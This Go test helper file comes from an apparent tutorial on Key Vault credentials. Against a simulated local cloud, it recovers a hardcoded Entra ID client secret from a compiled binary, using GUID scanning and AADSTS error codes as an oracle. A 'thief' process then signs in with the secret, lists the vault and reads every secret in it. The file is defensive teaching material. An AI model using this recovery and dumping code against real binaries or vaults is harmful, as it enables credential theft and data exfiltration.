package main

// Helpers for this step's tests: building the app once, starting a local cloud and the app in
// it, signing in at Entra ID's token endpoint and calling the vault by hand, and the "thief": a
// process that holds nothing but a copied credential.

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore/policy"
	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
	"github.com/Azure/azure-sdk-for-go/sdk/security/keyvault/azsecrets"

	"github.com/kvbootstrap/keyvault-bootstrapping/shared/localcloud"
	"github.com/kvbootstrap/keyvault-bootstrapping/shared/localcloud/apptest"
)

// thiefEnv turns the test binary into the thief (see TestMain): a second, unrelated process.
const thiefEnv = "STEP01_THIEF"

func TestMain(m *testing.M) {
	if os.Getenv(thiefEnv) == "1" {
		os.Exit(thief())
	}
	os.Exit(apptest.Main(m))
}

// appBinary is this step as `go build` makes it (with embedded.go), built once for all tests.
func appBinary(t *testing.T) string { return apptest.Build(t, ".") }

// lessonBinary is this step built as it is deployed (-tags nolocalcloud): without embedded.go
// and the local cloud it links in, which holds the same well-known values
// (localcloud.Step01ClientSecret) and would show them for the wrong reason.
func lessonBinary(t *testing.T) string { return apptest.Build(t, ".", "nolocalcloud") }

func goBuild(t *testing.T, out string, args ...string) {
	t.Helper()
	cmd := exec.Command("go", append([]string{"build", "-o", out}, args...)...)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build %s: %v\n%s", strings.Join(args, " "), err, b)
	}
}

// shortTokens makes Entra's tokens last 2 minutes, under the 5-minute margin within which the
// SDK treats a cached token as used up: whenever the app needs a new token, it signs in again
// with its credential instead of answering from its cache.
func shortTokens(o *localcloud.Options) { o.TokenLifetime = 2 * time.Minute }

// tokenExpired is how far to move a local cloud's clock so that every token the app holds is
// refused as expired: a token's lifetime (shortTokens) plus the five minutes of clock skew the
// vault allows. Short tokens alone do not make the app sign in again on its next refresh: the
// SDK reuses a token it got less than 30 seconds ago, so a test makes the vault refuse it.
const tokenExpired = 10 * time.Minute

// testClock is a clock a test can move forward, for a local cloud's Options.Now.
type testClock struct{ offset atomic.Int64 }

func (c *testClock) Now() time.Time               { return time.Now().Add(time.Duration(c.offset.Load())) }
func (c *testClock) Advance(d time.Duration)      { c.offset.Add(int64(d)) }
func (c *testClock) option(o *localcloud.Options) { o.Now = c.Now }

// startApp runs the step's app in the local cloud, the way a platform would: the environment
// carries the vault's URL and the transport, and no credential (step 01 has it in its code).
func startApp(t *testing.T, cloud *localcloud.Cloud) *apptest.App {
	t.Helper()
	return apptest.Start(t, appBinary(t), cloud.ChildEnv(os.Environ()))
}

// entraClient talks to the local cloud's Entra ID and Key Vault over HTTPS through its proxy.
type entraClient struct {
	t    *testing.T
	http *http.Client
}

func newEntraClient(t *testing.T, cloud *localcloud.Cloud) *entraClient {
	c := &entraClient{t: t, http: cloud.HTTPClient()}
	t.Cleanup(c.http.CloseIdleConnections)
	return c
}

// signIn asks Entra ID's token endpoint for a Key Vault token with a client secret, as any
// HTTP client on the internet can. It returns the token, or the AADSTS code of the refusal.
func (c *entraClient) signIn(tenantID, clientID, secret string) (token string, aadsts int) {
	c.t.Helper()
	form := url.Values{
		"grant_type":    {"client_credentials"},
		"client_id":     {clientID},
		"client_secret": {secret},
		"scope":         {"https://vault.azure.net/.default"},
	}
	resp, err := c.http.PostForm("https://login.microsoftonline.com/"+tenantID+"/oauth2/v2.0/token", form)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	var body struct {
		AccessToken string `json:"access_token"`
		ErrorCodes  []int  `json:"error_codes"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
		c.t.Fatalf("token endpoint answered %d with no JSON: %v", resp.StatusCode, err)
	}
	if resp.StatusCode == http.StatusOK && body.AccessToken != "" {
		return body.AccessToken, 0
	}
	if len(body.ErrorCodes) == 0 {
		c.t.Fatalf("token endpoint answered %d with no AADSTS code", resp.StatusCode)
	}
	return "", body.ErrorCodes[0]
}

// vaultResponse is what the vault answered to a raw request.
type vaultResponse struct {
	status    int
	challenge string // WWW-Authenticate
	body      string
}

// getSecret reads a secret of the well-known vault with a raw HTTPS request; token "" sends none.
func (c *entraClient) getSecret(token, name string) vaultResponse {
	c.t.Helper()
	req, err := http.NewRequest(http.MethodGet, localcloud.VaultURL+"secrets/"+name+"?api-version=2026-04-01", nil)
	if err != nil {
		c.t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := c.http.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		c.t.Fatal(err)
	}
	return vaultResponse{status: resp.StatusCode, challenge: resp.Header.Get("WWW-Authenticate"), body: string(b)}
}

// ---- recovering the credential from a binary

// guids lists the distinct lower-case GUIDs in b, in order of appearance.
func guids(b []byte) []string {
	var out []string
	seen := map[string]bool{}
	// Every GUID has a '-' at offset 8: find the dashes with IndexByte (fast even on a 10 MB
	// binary under the race detector, where a regexp takes seconds) and check around each one.
	for i := 0; ; {
		d := bytes.IndexByte(b[i:], '-')
		if d < 0 {
			return out
		}
		p := i + d
		i = p + 1
		if p < 8 || p+28 > len(b) {
			continue
		}
		if g := string(b[p-8 : p+28]); isGUID(g) && !seen[g] {
			seen[g] = true
			out = append(out, g)
		}
	}
}

func isGUID(s string) bool {
	for i, c := range []byte(s) {
		switch i {
		case 8, 13, 18, 23:
			if c != '-' {
				return false
			}
		default:
			if !('0' <= c && c <= '9' || 'a' <= c && c <= 'f') {
				return false
			}
		}
	}
	return len(s) == 36
}

// secretRuns lists the runs of the characters Entra ID draws client secrets from that hold a
// '~' and are long enough to be a secret: Entra's secrets carry one ("abc8Q~..."), which is what
// `strings app | grep '~'` would show.
func secretRuns(b []byte) [][]byte {
	inSecret := func(c byte) bool {
		return 'A' <= c && c <= 'Z' || 'a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '_' || c == '.' || c == '~' || c == '-'
	}
	var out [][]byte
	for i := 0; ; {
		d := bytes.IndexByte(b[i:], '~')
		if d < 0 {
			return out
		}
		start, end := i+d, i+d+1
		for start > 0 && inSecret(b[start-1]) {
			start--
		}
		for end < len(b) && inSecret(b[end]) {
			end++
		}
		if end-start >= minSecretLength {
			out = append(out, b[start:end])
		}
		i = end
	}
}

// The lengths of secret tried: Entra ID makes client secrets of 40 characters.
const minSecretLength, maxSecretLength = 16, 64

// recoveredCredential is a sign-in found in a binary.
type recoveredCredential struct{ tenantID, clientID, secret string }

// recoverCredential does what anyone holding the binary can do, knowing nothing in advance:
// list the GUIDs and the secret-shaped strings in it, the way `strings app | grep` would, and
// let Entra ID's own error codes tell which GUID is a tenant, which is an app in it, and which
// string is that app's secret.
func (c *entraClient) recoverCredential(bin []byte) (recoveredCredential, bool) {
	c.t.Helper()
	ids := guids(bin)
	// A wrong secret for a real app in a real tenant is AADSTS7000215; an unknown tenant is
	// 90002 and an unknown app 700016.
	var tenantID, clientID string
	for _, tenant := range ids {
		for _, client := range ids {
			if tenant == client || clientID != "" {
				continue
			}
			if _, code := c.signIn(tenant, client, "not-the-secret"); code == 7000215 {
				tenantID, clientID = tenant, client
			}
		}
	}
	if clientID == "" {
		return recoveredCredential{}, false
	}
	// Go lays string constants end to end with no separator, so the secret is somewhere inside
	// a run: try every stretch of it around the '~' that is long enough to be a secret.
	for _, run := range secretRuns(bin) {
		for start := range run {
			for end := min(len(run), start+maxSecretLength); end-start >= minSecretLength; end-- {
				secret := run[start:end]
				if bytes.IndexByte(secret, '~') < 0 {
					continue
				}
				if _, code := c.signIn(tenantID, clientID, string(secret)); code == 0 {
					return recoveredCredential{tenantID, clientID, string(secret)}, true
				}
			}
		}
	}
	return recoveredCredential{}, false
}

// ---- the thief: a separate process holding only a copied credential

// loot is what the thief reports on its standard output.
type loot struct {
	SignInError string            `json:"signInError,omitempty"`
	ObjectID    string            `json:"oid,omitempty"` // whom the vault sees calling
	Token       string            `json:"token,omitempty"`
	Listed      []string          `json:"listed,omitempty"`
	ListError   string            `json:"listError,omitempty"`
	Values      map[string]string `json:"values,omitempty"`
	Errors      map[string]string `json:"errors,omitempty"`
}

// thief runs in a child process (TestMain): it is not the app and never ran its code. With the
// copied tenant, client ID and secret in AZURE_TENANT_ID, AZURE_CLIENT_ID and AZURE_CLIENT_SECRET,
// it signs in with the unmodified SDK, lists the vault and reads every secret it can.
func thief() int {
	out, err := steal(os.Getenv("AZURE_TENANT_ID"), os.Getenv("AZURE_CLIENT_ID"), os.Getenv("AZURE_CLIENT_SECRET"), os.Getenv("AZURE_KEYVAULT_URL"))
	if err != nil {
		fmt.Fprintln(os.Stderr, "thief:", err)
		return 2
	}
	if err := json.NewEncoder(os.Stdout).Encode(out); err != nil {
		fmt.Fprintln(os.Stderr, "thief:", err)
		return 2
	}
	return 0
}

func steal(tenantID, clientID, secret, vaultURL string) (loot, error) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cred, err := azidentity.NewClientSecretCredential(tenantID, clientID, secret, nil)
	if err != nil {
		return loot{}, err
	}
	var out loot
	tok, err := cred.GetToken(ctx, policy.TokenRequestOptions{Scopes: []string{"https://vault.azure.net/.default"}})
	if err != nil {
		out.SignInError = err.Error()
		return out, nil
	}
	out.ObjectID = unverifiedClaims(tok.Token)["oid"]
	out.Token = tok.Token
	client, err := azsecrets.NewClient(vaultURL, cred, nil)
	if err != nil {
		return loot{}, err
	}
	out.Values, out.Errors = map[string]string{}, map[string]string{}
	for pager := client.NewListSecretPropertiesPager(nil); pager.More(); {
		page, err := pager.NextPage(ctx)
		if err != nil {
			out.ListError = err.Error()
			break
		}
		for _, p := range page.Value {
			out.Listed = append(out.Listed, p.ID.Name())
		}
	}
	for _, name := range out.Listed {
		resp, err := client.GetSecret(ctx, name, "", nil)
		if err != nil {
			out.Errors[name] = err.Error()
			continue
		}
		out.Values[name] = *resp.Value
	}
	return out, nil
}

// unverifiedClaims reads a JWT's string claims without checking it: for reporting only.
func unverifiedClaims(token string) map[string]string {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return nil
	}
	payload, err := decodeSegment(parts[1])
	if err != nil {
		return nil
	}
	var raw map[string]any
	if json.Unmarshal(payload, &raw) != nil {
		return nil
	}
	out := map[string]string{}
	for k, v := range raw {
		if s, ok := v.(string); ok {
			out[k] = s
		}
	}
	return out
}

// runThief starts the test binary again as the thief, with only the local cloud's environment
// (the vault's URL, the transport) and the copied credential.
func runThief(t *testing.T, cloud *localcloud.Cloud, cred recoveredCredential) loot {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), apptest.WaitTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, self)
	cmd.Env = cloud.ChildEnv(os.Environ(), thiefEnv+"=1",
		"AZURE_TENANT_ID="+cred.tenantID, "AZURE_CLIENT_ID="+cred.clientID, "AZURE_CLIENT_SECRET="+cred.secret)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	b, err := cmd.Output()
	if err != nil {
		t.Fatalf("the thief failed: %v\n%s", err, stderr.String())
	}
	var out loot
	if err := json.Unmarshal(b, &out); err != nil {
		t.Fatalf("the thief's report %q: %v", b, err)
	}
	return out
}

func decodeSegment(s string) ([]byte, error) { return base64.RawURLEncoding.DecodeString(s) }
